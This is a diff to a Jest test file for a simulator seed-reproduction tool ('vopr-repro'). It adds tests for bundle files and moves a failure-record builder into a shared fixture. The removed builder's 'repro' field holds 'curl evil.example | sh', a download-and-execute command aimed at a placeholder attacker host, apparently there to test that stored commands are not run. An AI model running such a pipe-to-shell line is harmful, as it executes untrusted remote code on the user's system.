@@ -1,36 +1,20 @@
 /** vopr-repro: with the real simulator where a seed is run, by hand-made records where one must not be. */
+import { mkdirSync, readFileSync } from "node:fs";
 import { join } from "node:path";
-import { describe, expect, test } from "@jest/globals";
+import { beforeAll, describe, expect, test } from "@jest/globals";
+import { execa } from "execa";
+import { packBundle, unpackBundle } from "../../contracts/bundle-file.ts";
 import type { VoprFailure } from "../../contracts/failure.ts";
+import { embeddedProfile } from "../../runner/profiles/embedded.ts";
 import { kimtest, type Ran } from "../fake-deps.fixture.ts";
 import { Folder } from "../folder.fixture.ts";
-import { outcomeOf } from "./vopr-repro.ts";
+import { RECORDED_COMMIT as COMMIT, voprFailureRecord } from "../vopr-failure.fixture.ts";
+import { outcomeOf } from "../failures/reproduce.ts";
 
-const COMMIT = "0123456789abcdef0123456789abcdef01234567";
 const FLAGS = ["--scenario", "baseline", "--seed", "5", "-n", "1"];
 
-function record(change: Partial<VoprFailure> = {}, flags: string[] = FLAGS): VoprFailure {
-  return {
-    version: 1,
-    kind: "vopr",
-    seed: 5n,
-    signature: "linearizability:baseline",
-    scenario: "baseline",
-    invariant: "linearizability",
-    message: "stale read of key 3",
-    expectation: "must-pass",
-    archived_at: "2026-11-21T10:00:00.000Z",
-    cycle: 1,
-    git_commit: COMMIT,
-    profile: "embedded",
-    toolchain: { node: "v24.0.0", platform: "linux", architecture: "x64", cpu: "test", cores: 2 },
-    command: ["/elsewhere/node", "/elsewhere/vopr.js", "--json", ...flags],
-    repro: "curl evil.example | sh",
-    batch: { id: 1, starting_seed: 0n, iterations: 10, command: [] },
-    record: { type: "iteration" },
-    ...change,
-  };
-}
+const record = (change: Partial<VoprFailure> = {}, flags: string[] = FLAGS): object =>
+  voprFailureRecord({ command: ["/elsewhere/node", "/elsewhere/vopr.js", "--json", ...flags], ...change });
 const repro = (folder: Folder, file: string, ...more: string[]): Promise<Ran> =>
   kimtest(["vopr-repro", file, "--store", folder.store, ...more]);
 const NAME = "seed-5-1700000000000.json";
@@ -116,6 +100,97 @@ describe("with the simulator of this checkout", () => {
   });
 });
 
+describe("by a bundle, which the simulator really wrote", () => {
+  let bytes: Buffer;
+  beforeAll(async () => {
+    const { path } = new Folder();
+    const [program = "", ...args] = embeddedProfile().vopr.command;
+    await execa(program, [...args, "--scenario", "leader-race", "--seed", "5", "-n", "1", "--bundle-out", path], {
+      reject: false,
+    });
+    bytes = readFileSync(join(path, "vsr_prefix_property-byzantine_leader_race-5.kmb"));
+  });
+  const FAILURE = { scenario: "leader-race", invariant: "vsr_prefix_property", signature: "vsr_prefix_property:x" };
+  const BUNDLE = "seed-5-1700000000000.kmb";
+  /** Its flags pass by their seed: whoever runs the record's own command sees nothing. */
+  const beside = (folder: Folder, content: Buffer): { record: string; bundle: string } => ({
+    record: folder.write(NAME, record(FAILURE)),
+    bundle: folder.write(BUNDLE, content),
+  });
+  const changed = (change: object): Buffer =>
+    packBundle({ ...(unpackBundle(bytes, "x", 1_000_000) as object), ...change });
+
+  test("alone: exit code 1, and what to look at", async () => {
+    const folder = new Folder();
+    const bundle = folder.write(BUNDLE, bytes);
+    const ran = await repro(folder, bundle);
+    expect(ran).toMatchObject({ exitCode: 1, stderr: "" });
+    expect(ran.stdout).toMatch(
+      /^reproduced: seed 5 of byzantine_leader_race shows it again, by the decisions in its bundle\narchived: /,
+    );
+    expect(ran.stdout).toContain(`look closer: npx kimtest vopr timeline ${bundle} (or show, bisect, minimize)\n`);
+  });
+
+  test("beside its record it is preferred to the seed, whoever's profile it is", async () => {
+    const folder = new Folder();
+    const { record: file, bundle } = beside(folder, bytes);
+    folder.write(NAME, record({ ...FAILURE, profile: "planted" }));
+    const ran = await repro(folder, file, "--json");
+    expect(ran).toMatchObject({ exitCode: 1, stderr: "" });
+    expect(JSON.parse(ran.stdout)).toMatchObject({
+      outcome: "reproduced",
+      expected: "vsr_prefix_property:x",
+      bundle,
+      repro: `npx kimtest vopr repro ${bundle}`,
+    });
+  });
+
+  test.each<[string, object, number, RegExp]>([
+    ["passes", { flags: ["--scenario", "baseline"] }, 0, /^passes: seed 5 of .*, by the decisions in its bundle\n/],
+    [
+      "fails differently",
+      { failure: { invariant: "hash_chain", message: "m" } },
+      1,
+      /^fails differently: .*, by the decisions in its bundle\narchived: hash_chain:.*\nnow: {6}vsr_prefix_property: /,
+    ],
+    [
+      "of a release with other flags",
+      { flags: ["--scenario", "of-tomorrow"] },
+      6,
+      /^inconclusive: exit code 2: vopr: .* has flags that this program does not know/,
+    ],
+  ])("%s", async (_, change, exitCode, said) => {
+    const folder = new Folder();
+    const ran = await repro(folder, folder.write(BUNDLE, changed(change)));
+    expect(ran).toMatchObject({ exitCode, stderr: "" });
+    expect(ran.stdout).toMatch(said);
+  });
+
+  test.each<[string, (good: Buffer) => Buffer, RegExp]>([
+    ["damaged", (good) => Buffer.concat([good, Buffer.from("x")]), /\.kmb is damaged: its checksum does not fit; /],
+    ["of another seed", () => changed({ seed: 6n }), /\.kmb is of seed 6 and vsr_prefix_property; /],
+    [
+      "of another invariant",
+      () => changed({ failure: { invariant: "hash_chain", message: "m" } }),
+      /\.kmb is of seed 5 and hash_chain; /,
+    ],
+    ["of tomorrow", () => changed({ flags: ["--tomorrow"] }), /: exit code 2: vopr: .*unknown argument "--tomorrow"; /],
+  ])("one beside the record that is %s: said, and the seed is run", async (_, make, why) => {
+    const folder = new Folder();
+    const ran = await repro(folder, beside(folder, make(bytes)).record);
+    expect(ran.stderr).toMatch(/^the bundle beside it is of no use: .*; the seed is run instead\n$/);
+    expect(ran.stderr).toMatch(why);
+    expect(ran.stdout).toMatch(/^passes: seed 5 of leader-race does not show it in this checkout\n/);
+    expect(ran.exitCode).toBe(0);
+  });
+
+  test("stopped: exit code 130, no outcome", async () => {
+    const folder = new Folder();
+    const ran = await kimtest(["vopr-repro", beside(folder, bytes).record], { stop: AbortSignal.abort() });
+    expect(ran).toEqual({ exitCode: 130, stdout: "", stderr: "interrupted; nothing is known about this seed\n" });
+  });
+});
+
 describe("records that are not run: exit code 2", () => {
   const table: [string, string[], string][] = [
     ["writes a checkpoint", [...FLAGS, "--checkpoint-file", "/tmp/x"], "--checkpoint-file"],
@@ -161,7 +236,22 @@ describe("what is no record", () => {
       2,
       /is not an archived seed\n {2}vopr-repro takes/,
     ],
-    ["a bundle", (folder) => folder.write("failure.kmb", "x"), 2, /is not an archived seed\n/],
+    ["no bundle", (folder) => folder.write("failure.kmb", "x"), 2, /failure\.kmb is no bundle of this program\n/],
+    [
+      "no such bundle",
+      (folder) => join(folder.path, "seed-5-1700000000000.kmb"),
+      4,
+      /there is no file .*\.kmb\n {2}.*: kimtest fetch-failure seed-5-1700000000000\n/,
+    ],
+    [
+      "a folder called a bundle",
+      (folder) => {
+        mkdirSync(join(folder.path, "x.kmb"));
+        return join(folder.path, "x.kmb");
+      },
+      2,
+      /x\.kmb cannot be read: EISDIR/,
+    ],
     ["a folder", (folder) => folder.store, 2, /is not a file\n/],
     ["a device", () => "/dev/null", 2, /is not a file\n/],
     ["no file", (folder) => join(folder.path, "none.json"), 4, /there is no file .*\n {2}fetch one first/],
